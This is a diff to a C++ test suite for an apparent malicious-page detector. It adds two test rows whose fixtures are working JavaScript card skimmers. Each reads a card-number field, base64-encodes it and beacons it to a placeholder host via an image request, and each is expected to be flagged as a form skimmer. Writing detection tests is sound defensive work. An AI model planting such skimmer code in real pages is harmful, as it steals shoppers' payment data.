@@ -343,6 +343,21 @@ INSTANTIATE_TEST_SUITE_P(
              {"/i.gif", "x"}},
             VisitVerdict::malicious,
             {"form skimmer (T1056.003)"}},
+        // Faster than that a page's minute has turns for.
+        Row{"skimmer_that_looks_all_the_time",
+            {{"/",
+              "<input name=card_number id=c><script>var n = 0; setInterval(function () { if (c.value && "
+              "!n++) new Image().src = '{b}/i.gif?d=' + btoa(c.value) }, 10)</script>"},
+             {"/i.gif", "x"}},
+            VisitVerdict::malicious,
+            {"form skimmer (T1056.003)"}},
+        Row{"skimmer_that_sets_itself_again_at_once",
+            {{"/",
+              "<input name=card_number id=c><script>(function look() { if (c.value) new Image().src = "
+              "'{b}/i.gif?d=' + btoa(c.value); else setTimeout(look, 1) })()</script>"},
+             {"/i.gif", "x"}},
+            VisitVerdict::malicious,
+            {"form skimmer (T1056.003)"}},
         Row{"skimmer_that_sets_itself_again",
             {{"/",
               "<input name=card_number id=c><script>(function look() { if (c.value) new Image().src = "
